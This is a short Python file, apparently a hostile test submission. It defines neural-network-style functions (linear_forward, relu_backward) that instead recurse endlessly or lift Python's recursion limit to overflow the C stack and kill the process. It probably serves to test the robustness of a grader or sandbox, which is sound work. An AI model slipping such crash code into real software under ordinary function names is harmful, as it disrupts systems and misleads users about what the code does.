# Hostile part: linear_forward recurses until Python stops it; relu_backward lifts Python's limit first
# and recurses through C code (comparing two deeply nested lists), so that the C stack overflows and
# the process dies.
import sys


def linear_forward(A, W, b):
    return linear_forward(A, W, b)


def relu_backward(dA, cache):
    sys.setrecursionlimit(10**7)
    nested, other = [], []
    for _ in range(200_000):
        nested, other = [nested], [other]
    return nested == other
